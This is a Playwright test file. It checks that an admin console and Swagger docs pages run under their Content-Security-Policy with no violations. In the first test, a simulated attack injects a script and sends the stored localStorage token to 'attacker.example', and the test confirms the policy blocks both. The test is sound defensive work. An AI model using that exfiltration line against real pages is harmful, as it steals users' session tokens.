/**
 * The built console and the Swagger UI pages work under their Content-Security-Policy in
 * Chromium: no violation is reported while an admin signs in and goes about, while an injected
 * script or a request to another site is refused. Screenshots when asked for (screenshots.ts).
 */
import { expect, test, type Page } from '@playwright/test';
import { tinyPng } from '../support/images.ts';
import { E2E, authUrl } from './e2e-settings.ts';
import { openSignedIn } from './helpers.ts';
import { keepScreenshot } from './screenshots.ts';

const apiUrl = `http://localhost:${E2E.apiPort}`;

/** Every CSP violation the page reports (the DOM event, and Chromium's console message). */
async function watchViolations(page: Page): Promise<string[]> {
  const violations: string[] = [];
  page.on('console', (message) => {
    if (/Content Security Policy/i.test(message.text())) violations.push(message.text());
  });
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', (event) =>
      console.error(`Content Security Policy violation: ${event.violatedDirective} ${event.blockedURI}`),
    );
  });
  return violations;
}

test('the console runs under its policy without a violation; injected scripts and other sites are refused', async ({ page }) => {
  const violations = await watchViolations(page);
  const response = await page.goto('/login');
  const policy = response!.headers()['content-security-policy'];
  expect(policy).toContain(`connect-src 'self' ${authUrl} ${apiUrl}`);
  expect(policy).toContain("frame-ancestors 'none'");
  await expect(page.getByRole('button', { name: 'Login' })).toBeVisible();
  await keepScreenshot(page, 'console-login');

  await openSignedIn(page, E2E.admin);
  await expect(page.getByRole('heading', { name: 'Welcome, Admin' })).toBeVisible();
  await page.goto('/user');
  await expect(page.getByRole('heading', { name: 'All Users' })).toBeVisible();
  await page.goto('/role');
  await expect(page.getByRole('heading', { name: 'All Roles' })).toBeVisible();
  // A picked photo is previewed from a blob: URL (nothing is saved).
  await page.goto('/user/add');
  await page.locator('input[type=file][name=photo]').setInputFiles({ name: 'preview.png', mimeType: 'image/png', buffer: tinyPng() });
  await expect(page.locator('img[src^="blob:"]')).toBeVisible();
  // Photos are served by the auth server.
  const photo = await page.evaluate(
    (url) =>
      new Promise<string>((resolve) => {
        const img = new Image();
        img.onload = () => resolve('loaded');
        img.onerror = () => resolve('not found');
        img.src = url;
      }),
    `${authUrl}/uploads/users/none.png`,
  );
  expect(photo).toBe('not found');
  expect(violations).toEqual([]);

  // What an attacker's markup would try: run a script of its own, send the token elsewhere.
  const ran = await page.evaluate(() => {
    const script = document.createElement('script');
    script.textContent = 'window.__injected = true';
    document.body.append(script);
    return (window as unknown as { __injected?: boolean }).__injected ?? false;
  });
  expect(ran).toBe(false);
  await page.evaluate(() =>
    fetch('http://attacker.example/collect', { method: 'POST', body: localStorage.getItem('token') }).catch(() => undefined),
  );
  const reported = () => violations.map((v) => /violation: (\S+)/.exec(v)?.[1]).filter(Boolean);
  await expect.poll(reported).toEqual(['script-src-elem', 'connect-src']);
});

for (const [name, url] of [
  ['auth', authUrl],
  ['api', apiUrl],
] as const) {
  test(`/docs of the ${name} server renders under its policy without a violation`, async ({ page }) => {
    const violations = await watchViolations(page);
    const response = await page.goto(`${url}/docs`);
    expect(response!.headers()['content-security-policy']).toContain("script-src 'self'");
    await expect(page.locator('.swagger-ui .info .title')).toContainText(`Fieldbase ${name} server`);
    await expect(page.locator('.opblock').first()).toBeVisible();
    // "Try it out" on GET /health: a request to the same server, allowed.
    await page.locator('.opblock-summary').filter({ hasText: '/health' }).click();
    await page.getByRole('button', { name: 'Try it out' }).click();
    await page.getByRole('button', { name: 'Execute' }).click();
    await expect(page.locator('.live-responses-table tr.response .response-col_status').first()).toHaveText('200');
    await keepScreenshot(page, `docs-${name}`);
    expect(violations).toEqual([]);
  });
}
